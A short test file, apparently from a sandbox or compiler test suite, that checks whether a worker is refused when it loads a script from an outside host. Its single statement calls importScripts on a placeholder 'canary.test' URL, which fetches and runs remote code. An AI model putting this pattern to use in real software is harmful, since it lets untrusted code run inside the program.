// id: import-scripts
// title: Loads a stranger's script into the worker
// why: a program of a few lines could bring the rest of itself along
// compiled: refused 2304 at 8
// unchecked: panic at 8

export async function main() {
  importScripts('http://canary.test/x.js');
}
